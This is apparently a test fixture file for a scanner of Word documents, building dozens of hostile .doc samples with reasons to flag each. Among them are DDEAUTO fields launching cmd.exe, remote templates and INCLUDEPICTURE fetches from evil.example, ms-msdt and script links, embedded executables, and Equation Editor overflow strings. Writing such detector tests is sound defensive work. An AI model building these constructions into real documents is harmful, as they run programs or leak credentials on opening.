import { compoundFile } from '../../../support/compound-file';
import {
  classes,
  classOf,
  equation,
  equationClass,
  linkedObject,
  nativeData,
  packagedFile,
} from '../../../support/ole';
import { networkPaths, otherNames, programNames, servers } from '../../../support/windows-names';
import { oldWordFile, textStart, wordFile, wordStreams } from '../../../support/word97';
import { type Hostile, hostileFile, patched } from './hostile';

const hostile = hostileFile('doc');

const command = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
const field = (instruction: string) => `CV \x13 ${instruction} \x14x\x15\r`;
const withField = (instruction: string) => wordFile({ text: field(instruction) });

/** Properties of a form field ([MS-DOC] 2.9.78), with two macros. */
function formField(kind: 'text' | 'box', entry: string, exit: string, help = 'Help'): Buffer {
  const text = (value: string) => Buffer.from(`${String.fromCharCode(value.length)}${value}\0`, 'utf16le');
  const start = Buffer.alloc(10, 0xff);
  start.writeUInt16LE(kind === 'text' ? 0 : 1, 4);
  const given = kind === 'text' ? text('x') : Buffer.alloc(2);
  return Buffer.concat([Buffer.alloc(68), start, text('Text1'), given, ...['', help, 'Line', entry, exit].map(text)]);
}

const forms: Hostile[] = [
  ...(['text', 'box'] as const).flatMap((kind) =>
    [
      ['FileSend', ''],
      ['', 'FilePrintDefault'],
    ].map(([entry = '', exit = '']) =>
      hostile(
        `with a form field, a ${kind}, that runs ${entry || exit}`,
        wordFile({ text: 'CV' }, { Data: formField(kind, entry, exit) }),
        'could run a macro',
      ),
    ),
  ),
  hostile(
    'with a form field with a long help that runs FileSend',
    wordFile({ text: 'CV' }, { Data: formField('text', 'FileSend', '', 'x'.repeat(2_000)) }),
    'could run a macro',
  ),
];

/** Quotes of Windows' code pages, which end an address to LibreOffice. */
const quoted: Hostile[] = ['\x84', '\x93', '\x94'].flatMap((quote) => {
  const instruction = `HYPERLINK "C:/Users/Public/x.exe${quote}/a.pdf"`;
  return [
    hostile(`of Word 6 with ${instruction}`, oldWordFile(field(instruction)), 'a link to a program'),
    hostile(`with ${instruction}`, wordFile({ text: field(instruction), isWide: true }), 'a link to a program'),
  ];
});

const fields: Hostile[] = [
  hostile('with a field that starts a program', withField(command), 'starts a program'),
  hostile('with such a field in wide letters', wordFile({ text: field(command), isWide: true }), 'starts a program'),
  hostile('with such a field in pieces', wordFile({ text: field(command), cuts: [4, 7, 8, 20] }), 'starts a program'),
  hostile('with such a field without a result', wordFile({ text: `\x13${command}\x15` }), 'starts a program'),
  hostile('with such a field that does not end', wordFile({ text: `\x13${command}` }), 'starts a program'),
  hostile(
    'with such a field in another',
    wordFile({ text: `\x13IF 1 = 1 \x13${command}\x15\x15` }),
    'starts a program',
  ),
  hostile(
    'with a field whose name is computed',
    wordFile({ text: '\x13\x13QUOTE 68\x14D\x15DE x y\x15' }),
    'starts a program',
  ),
  hostile('with zeros in a field', withField([...command].join('\0')), 'starts a program'),
  ...[
    'HYPERLINK \\o "smb://evil.example/a" \\l "b"',
    'HYPERLINK \\l "b" \\o "smb://evil.example/a"',
    'HYPERLINK \\t "smb://e/a" "a.htm"',
  ].map((instruction) =>
    hostile(`with a link whose address is ${instruction}`, withField(instruction), 'leads to a program'),
  ),
  ...[
    'HYPERLINK "file:\x81" \\l /../../..//evil.ex/a "z"',
    'HYPERLINK "https://a.example/\xe0" \\o "b" \\l smb://evil.ex/a "z"',
  ].flatMap((instruction) => [
    hostile(`of Word 6 in Japanese with ${instruction}`, oldWordFile(field(instruction)), 'leads to'),
    hostile(`in Japanese with ${instruction}`, withField(instruction), 'leads to'),
  ]),
  hostile('of Word 6 with such a field', oldWordFile(field(command)), 'starts a program'),
  hostile(
    'of Word 6 with such a field that stands in no piece',
    oldWordFile(field(command), { pieces: [{ text: 'CV', at: 768 }] }),
    'starts a program',
  ),
  hostile(
    'of Word 6 with such a field in a piece elsewhere',
    oldWordFile('CV', { pieces: [{ text: field(command) }] }),
    'starts a program',
  ),
  hostile('of Word 6 with such a field behind the end', oldWordFile(field(command), { length: 2 }), 'starts a program'),
  hostile(
    'of Word 6 with such a field that is not counted',
    oldWordFile(field(command), { counted: 2 }),
    'starts a program',
  ),
  hostile(
    'whose text does not begin at its first position',
    wordFile({ text: field(command), firstPosition: 1 }),
    'damaged',
  ),
  ...[45, 46, 48, 78, 87, 91].map((kind) =>
    hostile(
      `with a field of kind ${kind}`,
      wordFile({ text: field('LIEN x y'), kinds: { 3: kind } }),
      kind > 80 ? 'controls' : 'starts a program',
    ),
  ),
  ...[36, 40, 55, 56, 67, 68].map((kind) =>
    hostile(
      `with a field of kind ${kind} from elsewhere`,
      wordFile({ text: field('INCLURE "http://evil.example/x"'), kinds: { 3: kind } }),
      'fetched from elsewhere',
    ),
  ),
  ...[50, 51].map((kind) =>
    hostile(
      `with a button of kind ${kind}`,
      wordFile({ text: field('BOUTON Xvnd.sun.star.script:x.py$run x'), kinds: { 3: kind } }),
      'could run a macro',
    ),
  ),
  // LibreOffice goes by the number, and takes no blank but that of ASCII for the end of a word.
  ...['QUOTE\u00a0A', 'PAGE\tA', '=\tA', 'REF\u2003A', 'PAGE\u00a0', 'QUOTE"A"', 'PAGE\\A', 'BOUTON „A'].flatMap(
    (start, index) =>
      ['vnd.sun.star.script:x.py$run?language=Python&location=user', 'Standard.Module1.Main'].map((macro) =>
        hostile(
          `with a button whose number alone says what it is, ${index}, of ${macro}`,
          wordFile({ text: `CV \x13${start} ${macro} x\x14x\x15\r`, kinds: { 3: 51 } }),
          'could run a macro',
        ),
      ),
  ),
  hostile(
    'with a button to a script, whose number says so',
    wordFile({ text: field('PAGE vnd.sun.star.script:x.py$run x'), kinds: { 3: 50 } }),
    'could run a macro',
  ),
  hostile(
    'with a button of a module',
    wordFile({ text: field('BOUTON A.B x'), kinds: { 3: 51 } }),
    'could run a macro',
  ),
  hostile('with a picture from elsewhere', withField('INCLUDEPICTURE \\d "http://evil.example/x.png"'), 'fetched'),
  hostile('with a text from elsewhere', withField('INCLUDETEXT "\\\\\\\\evil.example\\\\x"'), 'fetched from elsewhere'),
  hostile('with a link to a script', withField('HYPERLINK "javascript:alert(1)"'), 'leads to a program'),
  hostile(
    'with a link to a folder of another computer',
    withField('HYPERLINK "\\\\\\\\evil.example\\\\x"'),
    'leads to a program',
  ),
  ...[
    '\x13HYPERLINK \x13QUOTE "ms-msdt:/id x"\x15\x14x\x15',
    '\x13HYPERLINK "\x13QUOTE "file:"\x14file:\x15//evil.example/share/x"\x14x\x15',
  ].map((text, index) =>
    hostile(`with a link whose address is computed, ${index}`, wordFile({ text }), 'another field computes'),
  ),
  ...['\\s', '\\o \\t', '"\\o"'].map((switches) =>
    hostile(
      `with a link to a program behind ${switches}`,
      withField(`HYPERLINK ${switches} "ms-msdt:/x"`),
      'leads to a program',
    ),
  ),
  ...[67, 88, 1].map((kind) =>
    hostile(
      `with a field that is listed twice, as ${kind} and as a page number`,
      wordFile({ text: field('XNCLUDE "http://evil.example/x.png" \\d'), kinds: { 3: kind }, secondKind: 33 }),
      'damaged',
    ),
  ),
  hostile(
    'with a link of a kind, in another language',
    wordFile({ text: field('LIENHYPERTEXTE "vbscript:x"'), kinds: { 3: 88 } }),
    'leads to a program',
  ),
];

const paths: Hostile[] = [
  ...[...servers, ...networkPaths]
    .filter((server) => !server.includes('&'))
    .map((template) =>
      hostile(`with a template at ${template}`, wordFile({ text: 'CV', template }), 'on another computer'),
    ),
  hostile(
    'of Word 6 with a template on a server',
    oldWordFile('CV', { template: '\\\\evil.example\\x.dot' }),
    'on another computer',
  ),
  hostile(
    'with a template on the internet',
    wordFile({ text: 'CV', template: 'http://evil.example/x.dot' }),
    'on another computer',
  ),
  hostile(
    'with data from elsewhere',
    wordFile({ text: 'CV', dataSource: '\\\\evil.example\\x' }),
    'on another computer',
  ),
  hostile(
    'with heads of data from elsewhere',
    wordFile({ text: 'CV', headerSource: '\\\\evil.example\\x' }),
    'on another computer',
  ),
  hostile(
    'with a file from elsewhere',
    wordFile({ text: 'CV', file: 'https://evil.example/x.doc' }),
    'on another computer',
  ),
];

const withObject = (streams: Record<string, Buffer | string>, clsid = classOf(streams)) =>
  wordFile(
    { text: 'CV' },
    Object.fromEntries(Object.entries(streams).map(([name, data]) => [`ObjectPool/_1/${name}`, data])),
    { 'ObjectPool/_1': clsid },
  );

const native = '\u0001Ole10Native';

const objects: Hostile[] = [
  ...programNames.map((name) =>
    hostile(`with the file ${name} inside`, withObject({ [native]: packagedFile(name, 'x') }), 'may be a program'),
  ),
  ...otherNames.map((name) =>
    hostile(`with the file ${name} inside`, withObject({ [native]: packagedFile(name, 'x') }), 'no CV needs'),
  ),
  hostile('with a program called a picture', withObject({ [native]: packagedFile('a.png', 'MZ') }), 'embedded program'),
  hostile('with a control', withObject({ '\u0003OCXNAME': 'x' }), 'controls'),
  ...['021700', '02ce02', '03000b'].map((kind) =>
    hostile(
      `with an equation of kind ${kind} whose font has a long name`,
      withObject({ 'Equation Native': equation('cmd.exe /c calc.exe &'.padEnd(44, 'A')) }, equationClass(kind)),
      'an equation that may run',
    ),
  ),
  hostile(
    'with an equation whose font has a name without an end',
    withObject({ 'Equation Native': equation('A'.repeat(33)).subarray(0, -1) }, equationClass('02ce02')),
    'an equation that may run',
  ),
  ...['0d000300', '0e000300'].map((kind) =>
    hostile(
      `with a sound or film from elsewhere, of kind ${kind}`,
      withObject({ [native]: nativeData('\\\\evil.example\\a.wav') }, `${kind}00000000c000000000000046`),
      'unknown kind',
    ),
  ),
  hostile('with a browser', withObject({ CONTENTS: 'x' }, classes.browser), 'unknown kind'),
  hostile(
    'with an object from elsewhere',
    withObject({ '\u0001Ole': linkedObject('http://evil.example/x') }, classes.link),
    'on another computer',
  ),
  hostile(
    'with a link that says by its flags that it is carried',
    withObject({ '\u0001Ole': linkedObject('http://evil.example/x', 0) }, classes.link),
    'damaged',
  ),
  hostile(
    'with an object on a server',
    withObject({ '\u0001Ole': linkedObject('\\\\evil.example\\x') }, classes.link),
    'on another computer',
  ),
  hostile('with macros in an object', withObject({ 'Macros/VBA/dir': 'x' }), 'macros'),
  hostile(
    'with a document in it that starts a program',
    withObject(wordStreams({ text: field(command) })),
    'starts a program',
  ),
  hostile('with rights that must be asked for', wordFile({ text: 'CV' }, { '\tDRMContent': 'x' }), 'password'),
  hostile('of Word 6 with macros', oldWordFile('CV', { commands: Buffer.from([0xff, 1, 1, 0, 0, 0, 0x40]) }), 'macros'),
];

/** A table of frames ([MS-DOC] 2.9.241) with one entry of a kind. */
function frames(kind: number, data = Buffer.from('\\\\evil.example\\x.htm', 'utf16le')): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32LE(head.length + data.length, 0);
  head.writeUInt32LE(kind, 4);
  return Buffer.concat([head, data]);
}

const order = Buffer.from('\\\\evil.example\\data.mdb', 'utf16le');
const stylesOfLists = 6;

const orders: Hostile[] = (
  [
    ['a mail merge', { 1170: order }, 'a mail merge'],
    ['a mail merge of Word 97', { 506: order }, 'a mail merge'],
    ['a mail merge of Word 2000', { 1162: order }, 'a mail merge'],
    ['people to send it to', { 714: order }, 'send it by mail'],
    ['schemas from elsewhere', { 1242: order }, 'schemas'],
    ['pages in frames', { 946: frames(1) }, 'pages that show other files'],
    [
      'styles of lists before pages in frames',
      { 946: Buffer.concat([frames(stylesOfLists), frames(3)]) },
      'other files',
    ],
    ['a key for a macro', { 346: Buffer.from('ff0101000000560000000000ffff00000040', 'hex') }, 'macros'],
    ['a table of frames that is cut', { 946: frames(stylesOfLists).subarray(0, 20) }, 'damaged'],
    ...[0, 4, 7].map(
      (size) =>
        [
          `a table of frames that is ${size} bytes long by itself`,
          { 946: Buffer.from([size, 0, 0, 0, stylesOfLists, 0, 0, 0]) },
          'damaged',
        ] as const,
    ),
  ] as const
).map(([what, tables, because]) => hostile(`with ${what}`, wordFile({ text: 'CV', tables }), because));

const oldOrders = [
  hostile('of Word 6 with a mail merge', oldWordFile('CV', { tables: { 450: order } }), 'a mail merge'),
  hostile('with a second description', withSecond(), 'a second document'),
];

/** As that of what a template keeps beside its text, which has fields of its own. */
function withSecond(): Buffer {
  const { WordDocument = Buffer.alloc(0), ...rest } = wordStreams({ text: 'CV' });
  WordDocument.writeUInt16LE(2, 8);
  return compoundFile({ WordDocument, ...rest });
}

/** Labels of what is saved as a program, behind a path that ends well. */
const labels = [
  ...['a.SettingContent-ms', 'a.library-ms', 'a.bat ', 'a.bat.', 'a.bat\u00a0', 'a.bat\t', 'a.bat/', 'a.bat"'],
  ...['a.bat:x', 'a.bat::$DATA', 'a.js'],
];

const commands = ['cmd.exe /c calc.txt', 'C:\\Windows\\System32\\cmd.exe /c calc & x.txt', 'C:\\a\\b.txt'];

const localPrograms = ['C:\\Windows\\System32\\calc.exe', 'C:\\a\\x.hta', 'C:\\a\\x.sct'];

const named: Hostile[] = [
  ...labels.map((label) =>
    hostile(
      `with a file labelled ${JSON.stringify(label)}`,
      withObject({ [native]: packagedFile('a.txt', 'x', { label }) }),
      'may be a program',
    ),
  ),
  hostile(
    'with a file labelled with a class of Windows',
    withObject({ [native]: packagedFile('a.txt', 'x', { label: 'a.{12345678-1234-1234-1234-123456789012}' }) }),
    'no CV needs',
  ),
  ...commands.map((path) =>
    hostile(
      `with the name ${path} for a file`,
      withObject({ [native]: packagedFile('a.txt', 'x', { path, isLinked: true }) }),
      'computer of its author',
    ),
  ),
  ...localPrograms.map((path) =>
    hostile(
      `with an object linked to ${path}`,
      withObject({ '\u0001Ole': linkedObject(path) }, classes.link),
      'a link to a program',
    ),
  ),
  ...['\\\\evil.example\\x.doc', 'https://evil.example/x.hta'].flatMap((place) =>
    (['latin1', 'utf16le'] as const).map((coding) =>
      hostile(
        `with notes of a link to ${place} (${coding})`,
        withObject({ '\u0003LinkInfo': Buffer.concat([Buffer.alloc(11), Buffer.from(place, coding)]) }, classes.link),
        'on another computer',
      ),
    ),
  ),
];

const broken: Hostile[] = [
  ...[
    ['fewer tables than any version has', 0xc1, 34],
    ['fewer tables than Word 2002 has', 0x101, 108],
    ['fewer tables than Word 2007 has', 0x112, 164],
  ].map(([what, version, count]) =>
    hostile(
      `that counts ${what}`,
      patchedWord((main) => {
        main.writeUInt16LE(Number(version), 2);
        main.writeUInt16LE(Number(count), 152);
      }),
      'damaged',
    ),
  ),
  hostile(
    'with more numbers before its tables than any program writes',
    patchedWord((main) => main.writeUInt16LE(18, 32)),
    'damaged',
  ),
  hostile(
    'with more long numbers before its tables than any program writes',
    patchedWord((main) => main.writeUInt16LE(26, 62)),
    'damaged',
  ),
  hostile(
    'whose text is not where it says',
    patchedWord((main) => main.writeUInt32LE(0x7fffffff, 418)),
    'damaged',
  ),
  hostile(
    'whose text has no pieces',
    patchedWord((main) => main.writeUInt32LE(0, 422)),
    'damaged',
  ),
  hostile(
    'whose fields are not where it says',
    patchedWord((main) => main.writeUInt32LE(0x7fff, 286)),
    'damaged',
  ),
  hostile('whose pieces are none', patchedTable(3), 'damaged'),
  hostile('whose pieces share their bytes', sharedPieces(), 'damaged'),
  hostile('whose description is cut', compoundFile({ WordDocument: cutDescription(), '1Table': 'x' }), 'damaged'),
  hostile(
    'with two streams of the same name',
    patched(wordFile({ text: 'CV' }, { Worddocumenu: 'x' }), (copy) => {
      copy.writeUInt8('t'.charCodeAt(0), copy.indexOf(Buffer.from('Worddocumenu', 'utf16le')) + 22);
    }),
    'damaged',
  ),
  hostile('with a slash in a name', renamedStream('Dat/'), 'damaged'),
  hostile('with a zero in a name', renamedStream('Da\0a'), 'damaged'),
];

function patchedWord(change: (main: Buffer) => void): Buffer {
  const streams = wordStreams({ text: 'CV' });
  change(streams.WordDocument ?? Buffer.alloc(0));
  return compoundFile(streams);
}

/** The table of pieces begins with this number instead of its own. */
function patchedTable(start: number): Buffer {
  const streams = wordStreams({ text: 'CV' });
  const at = streams.WordDocument?.readUInt32LE(418) ?? 0;
  streams['1Table']?.writeUInt8(start, at);
  return compoundFile(streams);
}

/** A thousand pieces, all of the same text. */
function sharedPieces(): Buffer {
  const text = 'x'.repeat(10_000);
  const streams = wordStreams({ text, cuts: Array.from({ length: 999 }, (_, index) => (index + 1) * 10) });
  const table = streams['1Table'] ?? Buffer.alloc(0);
  const at = (streams.WordDocument?.readUInt32LE(418) ?? 0) + 5;
  for (let index = 0; index <= 1000; index += 1) table.writeUInt32LE(index * 5000, at + index * 4);
  for (let index = 0; index < 1000; index += 1) table.writeUInt32LE(textStart + 2, at + 1001 * 4 + index * 8 + 2);
  return compoundFile(streams);
}

function cutDescription(): Buffer {
  return (wordStreams({ text: 'CV' }).WordDocument ?? Buffer.alloc(0)).subarray(0, 300);
}

function renamedStream(name: string): Buffer {
  return patched(wordFile({ text: 'CV' }, { Data: 'x' }), (copy) => {
    copy.write(name, copy.indexOf(Buffer.from('Data', 'utf16le')), 'utf16le');
  });
}

export const docsWithThingsInside: Hostile[] = [
  ...fields,
  ...paths,
  ...objects,
  ...forms,
  ...quoted,
  ...orders,
  ...oldOrders,
  ...named,
  ...broken,
];
